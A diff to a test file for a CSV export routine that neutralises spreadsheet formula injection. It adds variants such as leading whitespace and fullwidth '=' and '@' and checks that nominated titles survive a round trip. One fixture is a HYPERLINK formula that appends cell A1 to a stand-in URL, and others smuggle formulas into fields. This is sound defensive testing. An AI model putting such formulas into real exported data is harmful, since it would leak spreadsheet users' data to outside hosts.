@@ -8,12 +8,13 @@ const category = { key: 'Novel', fields: [{ key: 'title' }] } as const;
 it('marks a text that a spreadsheet would run, and nothing else', () => {
   const formula = '=HYPERLINK("https://example.com/?"&A1)';
   const rows = parse(
-    toCsv([[formula, '@A1', '+1', '-1', '\t=1', '1984', 'A = B', -1]]),
+    toCsv([[formula, '@A1', '+1', '-1', '\t=1', '\n=1', ' =1', '＝1', '1984', 'A = B', -1]]),
   ) as string[][];
-  expect(rows).toEqual([[`'${formula}`, "'@A1", "'+1", "'-1", "'\t=1", '1984', 'A = B', '-1']]);
+  const marked = [`'${formula}`, "'@A1", "'+1", "'-1", "'\t=1", "'\n=1", "' =1", "'＝1"];
+  expect(rows).toEqual([[...marked, '1984', 'A = B', '-1']]);
 });
 
-it.each(['=A1', '-30-', "'=A1", "''-", "'Salem’s Lot", '’'])(
+it.each(['=A1', '＠A1', '-30-', "'=A1", "''-", "'Salem’s Lot", '’'])(
   'reads the entry %s back as it was nominated',
   (title) => {
     const file = worksFile(new Map([[category, [[{ title }]]]]));
